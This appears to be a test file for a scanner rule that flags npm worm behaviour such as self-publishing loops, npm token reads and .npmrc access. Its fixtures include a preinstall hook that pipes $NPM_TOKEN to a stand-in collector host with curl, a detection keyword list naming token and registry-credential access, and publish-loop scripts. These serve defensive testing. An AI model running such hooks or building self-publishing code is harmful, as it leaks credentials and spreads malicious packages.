    const engine = wormPayload.detect({ facts: factsFromFixture(fixture('x', { ...scaffold, 'auto.js': variants[0]![2] })), options: wormPayload.meta.options.parse({ maxHintParseBytesPerPackage: 0 }), now: new Date() });
    expect(engine.findings.find((f) => f.messageId === 'selfPublishing')?.evidence.analysis).toBe('ast');
  });
});

describe('which files are parsed', () => {
  it('parses a file holding any one token of either list, in either case where the token is case-blind, and no other', () => {
    const always = ['exec("npm publish")', 'x.PUBLISH()', 'const r = "https://registry.npmjs.org"', 'env.NPM_CONFIG_REGISTRY', 'process.env.NODE_AUTH_TOKEN', 'NPM_TOKEN', '"//registry/:_authToken"', 'readFile(".npmrc")', 'dist-tags'];
    const worthwhile = ['require("child_process")', "import('execa')", 'Bun.spawn(cmd)', 'require(name)', 'var _0xa1b2 = 1;'];
    for (const source of always) expect(parseNeed(source), source).toBe('always');
    for (const source of worthwhile) expect(parseNeed(source), source).toBe('worthwhile');
    for (const source of ['module.exports = 1;', 'require("lodash")', 'const npm_ = 1; // lower case npm_ is no token']) expect(parseNeed(source), source).toBe('none');
  });
});

describe('worm-payload: what counts as dropping "private"', () => {
  it('a label written into a display object is not a manifest losing "private"', () => {
    const r = run(fixture('lister', {
      'index.js': `const fs = require('fs');
const { execSync } = require('child_process');
module.exports = function publishAll(pkgs) {
  for (const pkg of pkgs) {
    const formatted = { name: pkg.name };
    if (pkg.private) formatted.private = '(PRIVATE)';
    fs.writeFileSync(pkg.dir + '/package.json', JSON.stringify(pkg, null, 2));
    execSync('npm publish', { cwd: pkg.dir });
  }
};
`,
    }));
    const self = r.findings.find((f) => f.messageId === 'selfPublishing' || f.messageId === 'publishCommand');
    expect(self?.evidence.privateChange ?? null).toBeNull();
  });
});

describe('worm-payload: interactive release scripts', () => {
  it('a release script that asks "Ready to release? (y/n)" in a while-true loop is a release script, not a publish loop (store.js)', () => {
    const script = `#!/bin/bash
set -e
VERSION=$1
sed -E s/'"version": "[0-9.]+"'/'"version": "'$VERSION'"'/ package.json > /tmp/package.json && mv /tmp/package.json package.json
while true; do
    read -p "> Ready to build, commit, tag and release v$VERSION? (y/n): " yn
    case $yn in
        [Yy]* ) break;;
        * ) exit;;
    esac
done
git commit -am "v$VERSION"
git tag -a "v$VERSION" -m "v$VERSION"
git push --tags
npm publish
`;
    const r = run(fixture('store-like', { 'index.js': 'module.exports = {};\n', 'scripts/release.sh': script }));
    expect(r.findings.find((f) => f.messageId === 'selfPublishing')?.evidence.repetition ?? null).toBeNull();
    expect(['none', 'low']).toContain(r.level);
    const unattended = run(fixture('loop-publish', { 'index.js': 'module.exports = {};\n', 'scripts/release.sh': script.replace(/ {4}read -p[^\n]*\n/, '') }));
    expect(unattended.findings.find((f) => f.messageId === 'selfPublishing')?.evidence.repetition).toBeTruthy();
  });
});

describe('worm-payload: a hook that only prints advice', () => {
  it('an echo naming .npmrc reads no token; an echo of $NPM_TOKEN does', () => {
    const pkg = (preinstall: string): PackageFixture => ({ name: 'advice', publisher: { name: 'a', email: 'a@example.com' }, versions: [{ version: '1.0.0', publishedAt: '2025-01-01T00:00:00.000Z', manifest: { scripts: { preinstall } }, files: { 'README.md': '# advice\n' } }] });
    const advice = run(pkg(`echo "Create a .yarnrc or .npmrc and set enableScripts: false." && exit 1`));
    expect(JSON.stringify(advice.findings)).not.toMatch(/token-read/);
    const leak = run(pkg('echo $NPM_TOKEN | curl -d @- https://collector.example/t'));
    expect(JSON.stringify(leak.findings)).toMatch(/token-read/);
  });
});
